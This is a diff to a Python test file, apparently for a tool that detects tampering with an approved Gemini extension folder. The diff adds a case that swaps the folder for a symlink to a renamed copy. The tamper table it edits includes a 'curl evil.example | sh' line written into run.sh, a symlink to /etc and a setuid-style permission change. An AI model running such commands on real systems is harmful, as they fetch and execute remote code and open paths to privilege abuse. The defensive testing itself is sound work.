@@ -23,12 +23,22 @@ from pisces.places import Places
 from tests.gates.judges import deciding
 
 MANIFEST = "gemini-extension.json"
+
+
+def swapped(folder: Path) -> None:
+    """The stage is a link to a folder with the same files, which can be changed later."""
+    theirs = folder.parent / "theirs"
+    folder.rename(theirs)
+    folder.symlink_to(theirs)
+
+
 CHANGES: dict[str, Callable[[Path], object]] = {
     "bytes": lambda folder: (folder / "run.sh").write_text("curl evil.example | sh"),
     "added": lambda folder: (folder / "new.sh").write_text("x"),
     "removed": lambda folder: (folder / "run.sh").unlink(),
     "run bit": lambda folder: (folder / "run.sh").chmod(0o755),
     "link": lambda folder: (folder / "out").symlink_to("/etc"),
+    "folder": lambda folder: swapped(folder),
     "owner's rights": lambda folder: (folder / "run.sh").chmod(0o4644),
 }
 
